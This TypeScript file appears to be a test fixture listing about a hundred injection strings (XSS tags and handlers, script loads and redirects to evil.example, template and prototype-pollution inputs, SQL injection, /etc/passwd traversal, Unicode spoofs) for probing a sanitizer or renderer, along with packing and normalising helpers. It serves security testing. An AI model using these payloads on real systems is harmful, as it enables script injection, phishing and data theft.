/** What each injection would do if it ran. */
const act = 'window.__pwn=1'

const elements = [
  `<script>${act}</script>`,
  '<script src=//evil.example/x.js></script>',
  '<script type=module>import("//evil.example/x.js")</script>',
  `<ScRiPt >${act}</sCrIpT>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `</script><script>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `</title><script>${act}</script>`,
  `</style><script>${act}</script>`,
  `--><script>${act}</script>`,
  `<![CDATA[><script>${act}</script>]]>`,
  `<img src=x onerror=${act}>`,
  `<img/src=x/onerror=${act}>`,
  `<img src="x" onerror="alert(document.domain)">`,
  `<IMG """><SCRIPT>${act}</SCRIPT>">`,
  `<image src=x onerror=${act}>`,
  `<svg onload=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${act} />#x"/>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${act}>`,
  `<body onload=${act}>`,
  `<video><source onerror=${act}></video>`,
  `<audio src=x onerror=${act}>`,
  `<details open ontoggle=${act}>x`,
  `<input autofocus onfocus=${act}>`,
  `<select autofocus onfocus=${act}>`,
  `<marquee onstart=${act}>x</marquee>`,
  `<a href=javascript:${act}>x</a>`,
  `<a href="jav&#x09;ascript:${act}">x</a>`,
  '<a href="data:text/html,<script>opener.__pwn=1</script>">x</a>',
  '<iframe src=javascript:parent.__pwn=1>',
  '<iframe srcdoc="<script>parent.__pwn=1</script>">',
  '<object data=//evil.example/x.swf>',
  '<embed src=//evil.example/x.swf>',
  `<form action=javascript:${act}><button>x`,
  '<form action=https://evil.example><input name=otp>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  `<template><script>${act}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<xss id=x tabindex=1 onfocus=${act}></xss>`,
  `<div style="position:fixed;inset:0;background:url(//evil.example/x)">`,
]

const quotes = [
  `"><script>${act}</script>`,
  `'><script>${act}</script>`,
  `" onmouseover=${act} x="`,
  `' onfocus=${act} autofocus x='`,
  '`-alert(1)-`',
  `";${act};//`,
  `';${act};//`,
  `\\";${act};//`,
  `\${${act}}`,
  `{{constructor.constructor('${act}')()}}`,
  '{{7*7}}',
  '#{7*7}',
  '<%= 7*7 %>',
  `\${7*7}`,
  '{"__proto__":{"isSuperAdmin":true}}',
  '"}],"isSuperAdmin":true,"x":[{"y":"',
  '\\u003cscript\\u003ewindow.__pwn=1\\u003c/script\\u003e',
  '%3Cscript%3Ewindow.__pwn=1%3C/script%3E',
  '&lt;script&gt;window.__pwn=1&lt;/script&gt;',
  '&#60;script&#62;window.__pwn=1&#60;/script&#62;',
  '+ADw-script+AD4-window.__pwn=1+ADw-/script+AD4-',
  "'; drop table accounts; --",
  "' or '1'='1",
  '$1 $2 $$ $tag$',
  '../../../../etc/passwd',
  '{{name}} $t(common:app) {{count}}',
  '%s %d %n %p',
]

const addresses = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `java\tscript:${act}`,
  `javascript://example.com/%0a${act}`,
  'data:text/html,<script>opener.__pwn=1</script>',
  'data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX19wd249MTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'blob:https://evil.example/x',
  'file:///etc/passwd',
  'https://evil.example/"onmouseover="window.__pwn=1',
  "https://evil.example/'><img src=x onerror=window.__pwn=1>",
  'https://duet.example@evil.example/',
  'https://evil.example/\u202egnp.exe',
  'http://аpple.example/',
  '//evil.example/x',
  '/\\evil.example',
]

const markdown = [
  `[x](javascript:${act})`,
  '![x](https://evil.example/x.png)',
  '[x]: javascript:alert(1)',
  '<https://evil.example/x>',
  '**bold** _italic_ `code` # head',
  "<img src='https://evil.example/?",
  '<a href="https://evil.example/?',
  '</div></main><h1>Sign in again</h1>',
]

const letters = [
  '\u202eevil\u202c \u2066x\u2069',
  '\u0000<\u0000script>',
  '\u2028window.__pwn=1\u2029',
  '\ufeff<script>\u200b',
  'tags \u{e0041}\u{e0042}\u{e0043}',
  `Z${'\u0351\u0347\u0316'.repeat(12)}`,
  '<ѕcript>аlert(1)</ѕcript>',
  '＜script＞alert(1)＜/script＞',
  '\u0641\u062f\u0648\u064a <b>x</b>',
  '👩‍👩‍👧‍👦<img src=x onerror=alert(1)>',
  '\ud83d half',
]

/** About a hundred texts that have run as code, or broken a page, in some app. */
export const injections: readonly string[] = [...elements, ...quotes, ...addresses, ...markdown, ...letters]

/** Joins as many `texts` as fit into `length` characters, one per line. The others are in `rest`. */
export function pack(texts: readonly string[], length: number): { packed: string; rest: string[] } {
  let packed = ''
  const rest: string[] = []
  for (const text of texts) {
    const longer = packed ? `${packed}\n${text}` : text
    if (longer.length <= length) packed = longer
    else rest.push(text)
  }
  return { packed, rest }
}

/** Removes blanks and invisible characters, to compare texts. */
export const visible = (text: string): string => text.normalize('NFC').replace(/[\s\p{C}]/gu, '')
